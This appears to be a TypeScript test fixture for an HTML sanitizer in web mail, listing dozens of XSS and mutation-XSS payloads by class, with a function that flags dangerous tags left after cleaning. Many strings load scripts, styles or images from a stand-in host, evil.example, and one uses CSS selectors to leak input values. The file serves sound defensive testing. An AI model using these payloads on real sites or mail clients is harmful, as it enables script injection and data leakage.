/** What got through some web mail before, by its class (docs of DOMPurify, Roundcube's changes, mXSS); of our own making. */
export const HOSTILE_HTML: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<<script>alert(1)//<</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  ],
  handlers: [
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p><img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)><svg/onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
    '<input name=q autofocus onfocus=alert(1)><p tabindex=1 onfocus=alert(1) autofocus>x</p>',
  ],
  'links that run': [
    '<a href="javascript:alert(1)">x</a><a href="vbscript:msgbox(1)">y</a>',
    '<a href="java\tscript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">y</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="java\u0000script:alert(1)">x</a>',
    '<a name="x" ping="https://evil.example" href="https://ok.example" target="_top">x</a>',
  ],
  'svg use with data': [
    '<svg><use href="data:image/svg\t+xml;base64,PHN2Zz4="></use></svg>',
    '<svg onload=alert(1)><use xlink:href="data:image/svg+xml,x#y"></use></svg>',
  ],
  'SMIL that changes a link': [
    '<svg><a><animate attributeName="href " values="javascript:alert(1)" /><text>x</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)" /><text>x</text></a></svg>',
    '<svg><a xlink:href="#"><animate attributeName="xlink:href" begin="0s" from="#" to="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  'SMIL that changes a style': [
    '<svg><rect><animate attributeName="style" by="fill:url(https://evil.example/a)" /></rect></svg>',
    '<svg><rect><set attributeName="style" to="background:url(https://evil.example/b)" /></rect></svg>',
    '<svg><rect><animate attributeName="fill" by="url(https://evil.example/c#d)" dur="1s"/></rect></svg>',
  ],
  'pictures of filters': [
    '<svg><filter id=f><feImage href="https://evil.example/x"/></filter></svg>',
    '<svg><filter><feImage xlink:href="https://evil.example/y"/></filter><image href="https://evil.example/z"/></svg>',
  ],
  'FuncIRI that never ends': [
    '<svg><rect fill="url(https://evil.example/a"/></svg>',
    '<svg><rect fill="u\\72l(https://evil.example/b)"/><rect filter=\'url("https://evil.example/c\'/></svg>',
    '<svg><rect marker-start="url(//evil.example/d#m)" mask="url(https://evil.example/e"/></svg>',
    '<p fill="url(https://evil.example/f" cursor="url(https://evil.example/g)">x</p>',
  ],
  'SVG as a picture': [
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ],
  MathML: [
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  ],
  'markup that changes when it is read again': [
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
  ],
  'comments that are none': [
    '<!--><img src=x onerror=alert(1)>--><!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?><!--!><img src=x onerror=alert(1)>-->',
  ],
  'style elements': [
    '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/y)}</style>',
    '<style>@\\69mport "https://evil.example/z.css"; @im\\port url(https://evil.example/w.css);</style>',
    '<style>@\\0069 mport/**/"https://evil.example/v.css"</style><style>p{color:red}</style>',
    '<style>input[value^=a]{background:url(https://evil.example/leak?a)} #root{display:none}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f)} @namespace url(https://evil.example/n);</style>',
  ],
  'styles that load': [
    '<p style="background:url(https://evil.example/x.png)">x</p><div style="background:url(https://evil.example">x</div>',
    '<p style="background:\\75\\72\\6c(https://evil.example/x.png)">x</p><p style="background:u\\72l(https://evil.example)">x</p>',
    '<p style="background:u/**/rl(https://evil.example/x)">x</p><p style="/*;color:red">x</p>',
    '<p style="cursor:url(https://evil.example/c),auto;shape-outside:url(https://evil.example/s)">x</p>',
    '<p style="mask:url(https://evil.example/m);border-image-source:url(https://evil.example/b);filter:url(https://evil.example/f)">x</p>',
    '<p style="@import \'https://evil.example/i.css\';color:red">x</p><p style="content:url(https://evil.example/d)">x</p>',
  ],
  'styles that load by a variable': [
    '<p style="--x:url(https://evil.example);background:var(--x,url(https://evil.example))">x</p>',
    '<div style="color:var(--x,url(https://evil.example))">x</div>',
  ],
  'styles that load by a set of pictures': [
    '<p style="background:image-set(\'https://evil.example/x\' 1x)">x</p><p style="list-style-image:src(https://evil.example)">x</p>',
    '<p style="background-image:-webkit-image-set(url(https://evil.example/y) 1x);background:cross-fade(url(https://evil.example/z),red)">x</p>',
  ],
  'styles that run': ['<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>'],
  'styles that cover the page': [
    '<div style="position:fixed !important;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    '<div style="POSITION : sticky;inset:0;z-index:9999 !important">x</div><div style="po\\sition:fixed;top:0">x</div>',
  ],
  backgrounds: [
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
    '<body background="x);background:url(https://evil.example/y" onload=alert(1)><p>x</p></body>',
    '<body style="background:url(https://evil.example/z)" class="modal">x</body>',
  ],
  'names of the page': [
    '<p id="root" name="location" class="modal" for="x">x</p><form id=document><input name=cookie></form>',
    '<a id=defaultView name=body href="https://ok.example">x</a><img name=getElementById src="cid:x">',
  ],
  'namespaces in attributes': [
    '<p xmlns:x="javascript:alert(1)" xml:base="https://evil.example" xlink:href="https://evil.example">x</p>',
    '<html xmlns="\'><img src=x onerror=alert(1)>"><p>x</p></html>',
  ],
  'references that are written again': [
    '<a href="https://ok.example/?a=1&amp;quot;onclick=alert(1)&lt;b">x</a><p title="&quot; onmouseover=&quot;alert(1)">x</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;',
  ],
  frames: [
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example"><applet code=x></applet>',
    '<frameset><frame src=https://evil.example></frameset><portal src="https://evil.example"></portal>',
  ],
  forms: [
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">Go</button></form>',
    '<isindex action="https://evil.example"><input type=image src="https://evil.example/i"><select><option>x</select>',
  ],
  'what leads away': [
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><a href="/x">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/p"><link rel=dns-prefetch href="//evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="img-src *"><meta name=referrer content=unsafe-url>',
  ],
  media: [
    '<video src="https://evil.example" poster="https://evil.example"><source src="https://evil.example/v"><track src="https://evil.example/t"></video>',
    '<audio src="https://evil.example"></audio><bgsound src="https://evil.example"><picture><source srcset="https://evil.example/s"></picture>',
  ],
  'pictures of other servers': [
    '<img src="https://evil.example/p.gif"><img srcset="https://evil.example/p 1x" src="https://evil.example/b.png"><img src="//evil.example/p">',
    '<img lowsrc="https://evil.example/l" dynsrc="https://evil.example/d"><img src="http://evil.example/\\..\\p">',
  ],
  'maps on pictures': ['<img usemap="#m" src="cid:x"><map name="m"><area href="javascript:alert(1)"></map>'],
  'attributes that never end': [
    '<a href="https://ok.example" title="<script>alert(1)</script>">x</a><p title="\'><img src=x onerror=alert(1)>">x</p>',
    '<p title="x" "onmouseover=alert(1)>x</p><img alt="`><script>alert(1)</script>" src=`x`onerror=alert(1)>',
  ],
  'what hides what follows': [
    '<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<!-- <p>',
  ],
};

const ELEMENTS =
  /^<\/?(script|style|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|video|audio|source|template|map|area|noscript|textarea)\b/i;
const ATTRIBUTES =
  /\s(on\w+|id|name|class|for|ping|usemap|srcset|background|poster|action|formaction|xmlns\S*|xlink\S*|fill|filter|cursor|lowsrc|dynsrc)=/i;

/** What of clean HTML a browser would run, load, follow or take for its own: to be nothing. */
export function leftoversIn(html: string): string[] {
  const left: string[] = [];
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    const valueOf = (name: string) => new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1];
    const isLeft = [
      ELEMENTS.test(tag) || ATTRIBUTES.test(tag.replace(/"[^"]*"/g, '""')),
      !/^(https?:\/\/|mailto:|tel:)/.test(valueOf('href') ?? 'tel:'),
      !/^data:image\/(png|jpeg|gif|webp);base64,/.test(valueOf('src') ?? 'data:image/png;base64,'),
      /url|image-set|src\(|var\(|expression|position|behavior|binding|\\|@/i.test(valueOf('style') ?? ''),
    ];
    if (isLeft.includes(true)) left.push(tag);
  }
  return /<\w/.test(html.replace(/<[^>]*>/g, '')) ? [...left, 'an open tag'] : left;
}
